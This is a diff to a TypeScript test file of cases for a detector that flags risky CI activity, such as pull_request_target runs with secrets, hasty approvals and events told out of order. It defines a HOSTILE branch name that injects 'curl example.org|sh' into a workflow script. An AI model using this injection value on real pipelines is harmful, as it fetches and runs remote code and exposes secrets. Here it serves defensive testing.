@@ -73,16 +73,27 @@ function given(at: number, names: readonly string[], permissions: Readonly<Recor
   );
 }
 
+function approved(at: number): Activity {
+  return activityAt(
+    at,
+    'review',
+    { action: 'submitted', verdict: 'approved', author: 'newcomer' },
+    {
+      source: 'github.webhook',
+      actor: { name: 'mara', type: 'person' },
+      vcs: { repository: REPOSITORY, change: { id: '7' } },
+    },
+  );
+}
+
 const LATER = START + HOUR;
+const HOSTILE = 'x";curl${IFS}example.org|sh;"';
 
 export const cases: readonly DetectorCase[] = [
   {
     name: 'A stranger’s branch leaves the script that it is pasted into, in a run with a secret',
     kind: 'hit',
-    history: [
-      opened(START, { branch: 'x";curl${IFS}example.org|sh;"' }),
-      ran(START + SECOND, 'pull_request_target', 'x";curl${IFS}example.org|sh;"'),
-    ],
+    history: [opened(START, { branch: HOSTILE }), ran(START + SECOND, 'pull_request_target', HOSTILE)],
     activity: given(START + MINUTE, ['BOT_LOGIN']),
     expected: 'high',
   },
@@ -108,19 +119,31 @@ export const cases: readonly DetectorCase[] = [
     expected: 'medium',
   },
   {
+    name: 'The proposal is told after the run that it started',
+    kind: 'hit',
+    history: [ran(START + SECOND, 'pull_request_target'), given(START + MINUTE, ['BOT_LOGIN'])],
+    activity: opened(START),
+    expected: 'low',
+  },
+  {
+    name: 'The run that it started is told first, and its branch would leave the script',
+    kind: 'hit',
+    history: [ran(START + SECOND, 'pull_request_target', HOSTILE), given(START + MINUTE, ['BOT_LOGIN'])],
+    activity: opened(START, { branch: HOSTILE }),
+    expected: 'high',
+  },
+  {
     name: 'Approved twenty seconds after it was opened',
     kind: 'hit',
     history: [opened(START)],
-    activity: activityAt(
-      START + 20 * SECOND,
-      'review',
-      { action: 'submitted', verdict: 'approved', author: 'newcomer' },
-      {
-        source: 'github.webhook',
-        actor: { name: 'mara', type: 'person' },
-        vcs: { repository: REPOSITORY, change: { id: '7' } },
-      },
-    ),
+    activity: approved(START + 20 * SECOND),
+    expected: 'low',
+  },
+  {
+    name: 'Approved twenty seconds after it was opened, which is told later',
+    kind: 'hit',
+    history: [approved(START + 20 * SECOND)],
+    activity: opened(START),
     expected: 'low',
   },
   {
@@ -128,6 +151,17 @@ export const cases: readonly DetectorCase[] = [
     kind: 'near-miss',
     history: [opened(START), ran(START + SECOND, 'pull_request')],
     activity: given(LATER, [], { contents: 'read' }),
+    expected: null,
+  },
+  {
+    name: 'A member’s proposal, told after the run that it started and its approval',
+    kind: 'near-miss',
+    history: [
+      ran(START + SECOND, 'pull_request_target'),
+      given(START + MINUTE, ['BOT_LOGIN']),
+      approved(START + 20 * SECOND),
+    ],
+    activity: opened(START, { association: 'MEMBER' }),
     expected: null,
   },
   {
